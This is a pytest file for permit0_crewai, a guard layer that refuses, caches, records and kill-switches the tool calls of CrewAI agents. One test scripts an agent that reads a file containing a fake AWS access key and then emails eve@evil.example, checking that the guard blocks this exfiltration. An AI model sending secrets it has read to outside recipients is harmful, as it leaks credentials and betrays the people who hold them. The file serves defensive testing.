"""What becomes of results and of refusals: answers, caches, repeats, history."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import closing, suppress
from importlib import import_module
from pathlib import Path
from typing import Any

import pytest
from crewai import Agent, Crew
from crewai.tools import BaseTool, tool
from crewai.tools.tool_failure import ToolExecutionFailedError
from tests.crewai.kit import (
    LARGE,
    SMALL,
    Canaries,
    Scripted,
    approve,
    ask,
    build,
    counted,
    crew_of,
    react,
    team,
)

import permit0
from permit0.clock import SystemClock
from permit0.control.kill_switch import KillControl
from permit0.model.kill import KillScope
from permit0.state.kills import SqliteKills
from permit0.token.keys import SigningKey
from permit0_crewai import Refusal, guard_crew, guard_tools, install, uninstall

LOOK = ("look", {"path": "a.txt"})
OTHER = ("look", {"path": "b.txt"})
DANGER = ("danger", {"path": "x"})
FINAL = "Thought: I know\nFinal Answer: recovered"


@pytest.fixture
def canaries() -> Canaries:
    return Canaries()


@pytest.fixture
def guard(tmp_path: Path) -> Iterator[permit0.Guard]:
    made = build(tmp_path)
    yield made
    uninstall(made)


def executors() -> list[Any]:
    """The classes that run an agent; the old one is gone from newer releases."""
    try:
        old = import_module("crewai.agents.crew_agent_executor")
    except ImportError:
        return [None]
    return [None, old.CrewAgentExecutor]


def agent_of(llm: Scripted, tools: list[Any], executor: Any = None) -> Agent:
    return team(llm, tools, **({} if executor is None else {"executor_class": executor}))


# ---------------------------------------------------------------- answers


@pytest.mark.parametrize("layer", ["crew", "install", "tools"])
@pytest.mark.parametrize("native", [True, False])
@pytest.mark.parametrize("executor", executors())
def test_a_refusal_is_not_the_answer(
    guard: permit0.Guard, canaries: Canaries, executor: Any, native: bool, layer: str
) -> None:
    """result_as_answer ends the run with whatever the tool gave back."""
    tools = [canaries.danger(result_as_answer=True)]
    if layer == "tools":
        tools = guard_tools(tools, guard)
        uninstall(guard)
    llm = (
        Scripted([DANGER], "recovered") if native else Scripted(react(*DANGER), FINAL, native=False)
    )
    crew = crew_of(agent_of(llm, tools, executor))
    if layer == "crew":
        guard_crew(crew, guard)
    elif layer == "install":
        install(guard)
    assert str(crew.kickoff()) == "recovered"
    assert canaries.ran == []
    assert "permit0 did not run danger" in llm.seen[-1]


@pytest.mark.parametrize("native", [True, False])
@pytest.mark.parametrize("executor", executors())
def test_an_allowed_result_is_the_answer(
    guard: permit0.Guard, canaries: Canaries, executor: Any, native: bool
) -> None:
    llm = Scripted([LOOK], "no") if native else Scripted(react(*LOOK), "no", native=False)
    crew = crew_of(agent_of(llm, [canaries.look(result_as_answer=True)], executor))
    assert str(guard_crew(crew, guard).kickoff()) == "text of a.txt"


def test_a_refusal_and_then_an_allowed_call(guard: permit0.Guard, canaries: Canaries) -> None:
    """The same tool: what was refused does not count, what was allowed is the answer."""
    llm = Scripted([("charge", LARGE)], [("charge", SMALL)], "no")
    crew = crew_of(team(llm, [canaries.charge(result_as_answer=True)]))
    assert str(guard_crew(crew, guard).kickoff()) == "charged cus_1 50"


# ---------------------------------------------------------------- caches


@pytest.mark.parametrize("native", [True, False])
def test_a_refusal_is_not_cached(guard: permit0.Guard, canaries: Canaries, native: bool) -> None:
    charge = ("charge", LARGE)
    llm = ask(charge, native=native)
    crew = guard_crew(crew_of(team(llm, [canaries.charge()]), cache=True), guard)
    crew.kickoff()
    assert canaries.ran == []
    approve(guard)
    llm.steps[:] = ask(charge, native=native).steps
    crew.kickoff()
    assert canaries.ran == [("charge", 5000)]


@pytest.mark.parametrize("layer", ["crew", "install", "tools"])
@pytest.mark.parametrize("native", [True, False])
def test_a_cached_result_is_decided_as_well(
    tmp_path: Path, canaries: Canaries, native: bool, layer: str
) -> None:
    """The operator kills everything after the first call: the second gets nothing, from nowhere."""
    guard = build(tmp_path, more="state: {path: state.db}\n")
    tools: list[Any] = [canaries.look()]
    if layer == "tools":
        tools = guard_tools(tools, guard)
    look = [LOOK] if native else react(*LOOK)

    def kill() -> Any:
        stop(tmp_path / "state.db")
        return look

    llm = Scripted(look, kill, "done" if native else FINAL, native=native)
    # Two texts in a row that are the same are refused by CrewAI itself.
    if not native:
        llm = Scripted(look, react(*OTHER), kill, FINAL, native=False)
    crew = crew_of(team(llm, tools), cache=True)
    if layer == "crew":
        guard_crew(crew, guard)
    elif layer == "install":
        install(guard)
    try:
        crew.kickoff()
    finally:
        uninstall(guard)
    assert canaries.ran == [("look", "a.txt")] + ([] if native else [("look", "b.txt")])
    assert "the operator has stopped it" in llm.seen[-1]


def test_an_allowed_result_may_come_from_the_cache(
    guard: permit0.Guard, canaries: Canaries
) -> None:
    """The body runs once, and each of the two calls is in the history."""
    llm = Scripted([LOOK], [LOOK], "done")
    crew = guard_crew(crew_of(team(llm, [canaries.look()]), cache=True), guard)
    crew.kickoff()
    assert canaries.ran == [("look", "a.txt")]
    assert counted(guard, session=f"crew:{crew.id}", agent="worker") == 2


def stop(file: Path) -> None:
    """`permit0 kill fleet`."""
    clock = SystemClock()
    with closing(SqliteKills(file, name="test", clock=clock)) as switch:
        control = KillControl(switch, clock=clock, events=None)
        control.kill(KillScope.FLEET, "", by="alice", reason="test")


# ---------------------------------------------------------------- repeats and failures


@pytest.mark.parametrize("executor", executors())
def test_a_refusal_in_text_mode_is_decided_once(
    guard: permit0.Guard, canaries: Canaries, executor: Any
) -> None:
    """CrewAI tries a tool that raises six times; a tool that gives back a Refusal, once."""
    tools = guard_tools([canaries.charge()], guard)
    uninstall(guard)
    crew_of(agent_of(ask(("charge", LARGE), native=False), tools, executor)).kickoff()
    assert canaries.ran == []
    assert guard.desk is not None
    assert len(guard.desk.pending()) == 1


def test_a_model_that_insists_is_stopped_by_crewai(
    guard: permit0.Guard, canaries: Canaries
) -> None:
    """Five identical calls with identical results end the run; nothing ran, and one person was asked."""
    llm = Scripted(*[[("charge", LARGE)]] * 6, "done")
    crew = guard_crew(crew_of(team(llm, [canaries.charge()])), guard)
    with suppress(ToolExecutionFailedError):  # the other executors of older releases go on
        crew.kickoff()
    assert canaries.ran == []
    assert guard.desk is not None
    assert len(guard.desk.pending()) == 1


def test_a_policy_that_raises_on_failures_does_not_end_the_run_for_a_refusal(
    guard: permit0.Guard, canaries: Canaries
) -> None:
    llm = ask(DANGER)
    agent = team(llm, canaries.all(), tool_failure_policy="raise")
    assert str(guard_crew(crew_of(agent), guard).kickoff()) == "done"
    assert canaries.ran == []


def test_a_refusal_says_to_the_program_what_it_was(
    guard: permit0.Guard, canaries: Canaries
) -> None:
    (charge,) = guard_tools([canaries.charge()], guard)
    told: object = charge.run(amount=5000)
    assert isinstance(told, Refusal)
    assert guard.desk is not None
    assert told.details["request"] == guard.desk.pending()[0].request.id
    assert told.code == "permit0_refused"


# ---------------------------------------------------------------- history


@pytest.mark.parametrize("layer", ["crew", "install", "tools"])
@pytest.mark.parametrize("native", [True, False])
@pytest.mark.parametrize("executor", executors())
def test_each_call_is_one_step_of_history(
    guard: permit0.Guard, executor: Any, native: bool, layer: str
) -> None:
    """A default of the function that the schema does not know, too: both layers see the same call."""
    ran: list[str] = []

    class Look(BaseTool):
        name: str = "look"
        description: str = "d"

        def _run(self, path: str, encoding: str = "utf-8", **more: Any) -> str:
            ran.append(path)
            return "text"

    tools: list[Any] = [Look()]
    if layer == "tools":
        tools = guard_tools(tools, guard)
    calls = (LOOK, OTHER)
    crew: Crew = crew_of(agent_of(ask(*calls, native=native), tools, executor))
    if layer == "crew":
        guard_crew(crew, guard)
    elif layer == "install":
        install(guard)
    crew.kickoff()
    assert sorted(ran) == ["a.txt", "b.txt"]
    assert counted(guard, session=f"crew:{crew.id}", agent="worker") == 2


@pytest.mark.parametrize("native", [True, False])
@pytest.mark.parametrize("cache", [True, False])
def test_outputs_are_seen_by_the_session(tmp_path: Path, native: bool, cache: bool) -> None:
    """What a tool gave back was a key; after that nothing goes to a stranger, whoever approves."""
    guard = build(tmp_path, approve=lambda request: True)
    sent: list[str] = []

    @tool("look")
    def look(path: str) -> str:
        """Read a file."""
        return "aws_access_key_id = AKIAQ3EGRVZK4YWUPL2X" if path == "a.txt" else "nothing"

    @tool("send_email")
    def send(to: list[str], subject: str, body: str) -> str:
        """Send a mail."""
        sent.extend(to)
        return "sent"

    mail = ("send_email", {"to": ["eve@evil.example"], "subject": "hi", "body": "hello"})
    for first, expected in ((OTHER, 1), (LOOK, 0)):
        sent.clear()
        calls = Scripted([first], [mail], "done")
        if not native:
            calls = ask(first, mail, native=False)
        crew = guard_crew(crew_of(team(calls, [look, send]), cache=cache), guard)
        crew.kickoff()
        assert len(sent) == expected
    uninstall(guard)


def test_a_result_that_cannot_be_recorded_is_not_a_reason_to_run_again(
    tmp_path: Path, canaries: Canaries, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PERMIT0_SIGNING_KEY", SigningKey.generate().reveal())
    guard = build(tmp_path, more="audit: {path: audit.db}\n")

    @tool("look")
    def look(path: str) -> str:
        """Read a file."""
        canaries.ran.append(("look", path))
        guard.engine.close()
        return "text"

    llm = ask(LOOK, native=False)
    try:
        guard_crew(crew_of(team(llm, [look])), guard).kickoff()
    finally:
        uninstall(guard)
    assert canaries.ran == [("look", "a.txt")]
    assert "look ran, but permit0 could not record what came of it" in llm.seen[-1]
